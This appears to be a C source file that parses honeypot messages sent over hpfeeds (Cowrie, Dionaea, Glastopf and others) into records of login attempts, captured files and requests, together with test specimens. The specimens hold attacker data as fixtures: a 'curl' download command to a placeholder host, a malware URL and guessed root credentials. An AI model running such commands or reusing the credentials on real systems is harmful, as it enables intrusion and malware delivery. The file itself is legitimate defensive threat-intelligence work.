/*
 * What honeypots publish over hpfeeds: a JSON object a line with "ident" (who published), "channel" and "payload", as
 * subscribers write it; the payload is an object, or text that holds one.
 *
 * Each sort of honeypot has names of its own for the same things, so that a value is looked for under all of them, and
 * the channel says what was seen.  Channels whose payload is no JSON (samples themselves) are not read.
 */
#include "share/reading/named_inner.h"
#include "share/reading/json_inner.h"
#include "share/reading/pick_inner.h"
#include "share/reading/words_inner.h"

FIELD(hpfeeds_channel, "hpfeeds.channel", BYTES, 0, "hpfeeds channel that a message came on");

#define CONFIDENCE_SEEN 80
#define NAMES_MAX 6

enum place { IDENT, CHANNEL, PAYLOAD, TIME, PLACES };
static const struct pick picks[] = {PICK("ident", IDENT), PICK("channel", CHANNEL), PICK("payload", PAYLOAD), PICK("time", TIME),
				    PICK("timestamp", TIME), PICK_END};

/* The first part of a channel's name up to which the sort is known, and what it tells. */
static const struct { const char *channel, *kind; } sorts[] = {
	{"cowrie.", "login.tried"}, {"kippo.", "login.tried"}, {"dionaea.capture", "file.captured"},
	{"mwbinary.", "file.captured"}, {"dionaea.dcerpc", "exploit.seen"}, {"dionaea.shellcode", "exploit.seen"},
	{"dionaea.", "session.opened"}, {"amun.", "session.opened"}, {"conpot.", "request.seen"}, {"glastopf.", "request.seen"},
	{"wordpot.", "request.seen"}, {"elastichoney.", "request.seen"}, {"shockpot.", "exploit.seen"}, {"snort.", "alert.raised"},
	{"suricata.", "alert.raised"}, {"p0f.", "client.seen"}, {"thug.", "page.visited"}, {"beeswarm.", "session.opened"},
};

static const char *kind_of(struct bytes channel)
{
	for (size_t i = 0; i < sizeof sorts / sizeof *sorts; i++)
		if (bytes_start_with(channel, sorts[i].channel))
			return sorts[i].kind;
	return "session.opened";
}

/* The string, or number as text, under the first of these names that has one. */
static struct bytes first_of(struct intake *in, const json_t *o, const char *const names[NAMES_MAX])
{
	for (size_t i = 0; i < NAMES_MAX && names[i]; i++) {
		const json_t *value = json_object_get(o, names[i]);
		const json_t *one = json_is_array(value) ? json_array_get(value, 0) : value; /* glastopf: [address, port] */
		struct bytes text = json_is_integer(one) ? json_line(in, one) : json_span(one);
		if (text.len)
			return text;
	}
	return (struct bytes){0};
}

#define FIRST_OF(...) first_of(in, o, (const char *const[NAMES_MAX]){__VA_ARGS__})

static void add_count(struct record *r, uint16_t field, struct bytes digits, uint64_t max)
{
	uint64_t number;
	if (bytes_number(digits, max, &number))
		record_number(r, field, number);
}

static void set_file(struct intake *in, const json_t *o, struct record *r)
{
	struct record hash = {0};
	struct phrase digests = phrase_of(in);
	struct bytes sha256 = FIRST_OF("sha256", "shasum"), sha512 = FIRST_OF("sha512"), md5 = FIRST_OF("md5");
	if (!named_set(in, &hash, NAMED_HASH, sha256) && hash.value.len == 64)
		record_bytes(r, FIELD_FILE_SHA256, hash.value);
	phrase_add_pair(&digests, "md5", md5);
	phrase_add_pair(&digests, "sha512", sha512);
	record_bytes(r, word_digests, phrase_bytes(&digests));
	record_bytes(r, FIELD_FILE_URL, FIRST_OF("url", "download_url"));
}

static void set_deeds(struct intake *in, const json_t *o, struct record *r)
{
	struct address decoy;
	uint64_t port;
	add_count(r, FIELD_SPORT, FIRST_OF("sport", "src_port", "peerPort", "remote_port", "attackerPort"), UINT16_MAX);
	if (address_parse(FIRST_OF("daddr", "dst_ip", "hostIP", "local_host", "victimIP", "dest_ip"), &decoy))
		record_address(r, FIELD_DST, &decoy);
	if (bytes_number(FIRST_OF("dport", "dst_port", "hostPort", "local_port", "victimPort", "dest_port"), UINT16_MAX, &port))
		r->port = (uint32_t)port;
	record_bytes(r, word_class, FIRST_OF("protocol", "data_type", "connection_protocol", "service"));
	record_bytes(r, FIELD_LOGIN_USER, FIRST_OF("username"));
	record_bytes(r, FIELD_LOGIN_SECRET, FIRST_OF("password"));
	record_bytes(r, FIELD_COMMAND_LINE, FIRST_OF("command"));
	record_bytes(r, FIELD_TARGET, FIRST_OF("request_url", "request", "path"));
	record_bytes(r, FIELD_METHOD, FIRST_OF("method"));
	record_bytes(r, FIELD_AGENT, FIRST_OF("user_agent", "version", "app"));
	set_file(in, o, r);
}

/* Cowrie sends a whole session: its logins stand in a list of [name, password]. */
static size_t tell_logins(struct intake *in, const json_t *o, const struct record *like)
{
	static const char *const lists[] = {"credentials", "loggedin", NULL};
	size_t count = 0, i;
	const json_t *it;
	for (const char *const *list = lists; *list; list++)
		json_array_foreach(json_object_get(o, *list), i, it) {
			struct record r = *like;
			char *number = arena_alloc(intake_arena(in), 48);
			if (!json_is_array(it) || !number)
				continue;
			snprintf(number, 48, "%.*s %zu", (int)like->version.len, (const char *)like->version.at, count++);
			r.version = bytes_of_text(number);
			record_bytes(&r, FIELD_LOGIN_USER, json_span(json_array_get(it, 0)));
			record_bytes(&r, FIELD_LOGIN_SECRET, json_span(json_array_get(it, 1)));
			intake_record(in, &r);
		}
	return count;
}

static void tell_rest(struct intake *in, const json_t *o, const struct record *seen)
{
	struct record like = {.time_us = seen->time_us, .original = seen->original, .role = "download", .link = seen->link};
	size_t i;
	const json_t *it;
	struct bytes url = FIRST_OF("url", "download_url");
	if (url.len)
		intake_text(in, &like, url);
	json_array_foreach(json_object_get(o, "urls"), i, it)
		intake_text(in, &like, json_span(it));
	json_array_foreach(json_object_get(o, "commands"), i, it)
		if (bytes_find(json_span(it), "://") < json_span(it).len)
			intake_text(in, &like, json_span(it));
}

static void take_payload(struct intake *in, const json_t *o, const struct json_value *v, struct record *r)
{
	struct bytes source = FIRST_OF("saddr", "src_ip", "peerIP", "remote_host", "attackerIP", "source");
	struct bytes channel = pick_text(in, &v[CHANNEL]), when = FIRST_OF("timestamp", "time", "startTime", "ts");
	const char *wrong = named_set(in, r, NAMED_ADDRESS, source);
	if (wrong) {
		intake_bad(in, "the payload names nobody who acted");
		return;
	}
	json_t *time = json_stringn((const char *)when.at, when.len);
	r->kind = kind_of(channel);
	r->time_us = when.len && json_moment(time) ? json_moment(time) : pick_moment(in, &v[TIME]);
	json_decref(time);
	r->author = pick_text(in, &v[IDENT]);
	record_bytes(r, hpfeeds_channel, channel);
	set_deeds(in, o, r);
	record_digest(in, r, r->original);
	if (!tell_logins(in, o, r))
		intake_record(in, r);
	tell_rest(in, o, r);
}

static void line(struct intake *in, struct bytes whole)
{
	struct json_value v[PLACES];
	struct record r = {.confidence = CONFIDENCE_SEEN, .original = whole};
	if (!pick_line(in, whole, picks, v, PLACES))
		return;
	struct bytes payload = v[PAYLOAD].type == VALUE_OBJECT ? v[PAYLOAD].raw : pick_text(in, &v[PAYLOAD]);
	json_t *o = json_loadb((const char *)payload.at, payload.len, JSON_ALLOW_NUL, NULL);
	if (!v[CHANNEL].raw.len)
		intake_bad(in, "it names no channel");
	else if (!json_is_object(o))
		intake_bad(in, "the payload is no JSON object");
	else
		take_payload(in, o, v, &r);
	json_decref(o);
}

static const struct format_specimen specimens[] = {
	{"Dionaea's capture and Cowrie's session",
	 BYTES("{\"ident\":\"sensor1\",\"channel\":\"dionaea.capture\",\"payload\":{\"url\":\"http://203.0.113.6/x.exe\""
	       ",\"daddr\":\"192.0.2.3\",\"saddr\":\"198.51.100.30\",\"dport\":\"445\",\"sport\":\"4123\",\"sha512\":\"0"
	       "0\",\"md5\":\"d41d8cd98f00b204e9800998ecf8427e\"},\"time\":\"2024-05-01T10:00:00Z\"}\n{\"ident\":\"senso"
	       "r2\",\"channel\":\"cowrie.sessions\",\"payload\":\"{\\\"peerIP\\\": \\\"198.51.100.31\\\", \\\"peerPort"
	       "\\\": 5, \\\"hostIP\\\": \\\"192.0.2.3\\\", \\\"hostPort\\\": 22, \\\"startTime\\\": \\\"2024-05-01T10:0"
	       "0:00.5Z\\\", \\\"credentials\\\": [[\\\"root\\\", \\\"admin\\\"], [\\\"root\\\", \\\"x\\\\u0000\\\"]], "
	       "\\\"commands\\\": [\\\"curl http://203.0.113.7/b\\\"], \\\"urls\\\": []}\"}\n{\"ident\":\"sensor3\",\"ch"
	       "annel\":\"glastopf.events\",\"payload\":{\"source\":[\"198.51.100.32\",4444],\"request_url\":\"/phpmyadm"
	       "in\",\"time\":\"2024-05-01 10:00:00\"}}\n"),
	 "address 198.51.100.30\n"
	 "  kind file.captured\n"
	 "  port 445\n"
	 "  sport 4123\n"
	 "  dst 192.0.2.3\n"
	 "  file.url http://203.0.113.6/x.exe\n"
	 "  record.digests md5:d41d8cd98f00b204e9800998ecf8427e sha512:00\n"
	 "  time 2024-05-01T10:00:00.000000Z\n"
	 "url http://203.0.113.6/x.exe\n"
	 "  role download\n"
	 "address 203.0.113.6\n"
	 "address 198.51.100.31\n"
	 "  kind login.tried\n"
	 "  login.user root\n"
	 "  login.secret admin\n"
	 "  time 2024-05-01T10:00:00.500000Z\n"
	 "address 198.51.100.31\n"
	 "  kind login.tried\n"
	 "url http://203.0.113.7/b\n"
	 "address 203.0.113.7\n"
	 "address 198.51.100.32\n"
	 "  kind request.seen\n"
	 "  request.target /phpmyadmin\n"},
	{"what is none",
	 BYTES("{\"ident\":\"s\",\"channel\":\"x\",\"payload\":\"MZ\\\\u0090\"}\n{\"ident\":\"s\",\"payload\":{}}\n{\"ch"
	       "annel\":\"amun.events\",\"payload\":{\"attackerIP\":\"nobody\"}}\n"),
	 "bad the payload is no JSON object\n"
	 "bad it names no channel\n"
	 "bad the payload names nobody\n"},
	{0},
};

static const struct format hpfeeds = {
	.name = "hpfeeds",
	.summary = "what honeypots publish over hpfeeds: sessions, captures, requests",
	.reference = "payloads of Cowrie, Dionaea, Conpot, Glastopf, Amun, Snort and others on hpfeeds",
	.shape = FORMAT_LINES,
	.line = line,
	.specimens = specimens,
};
FORMAT(hpfeeds);
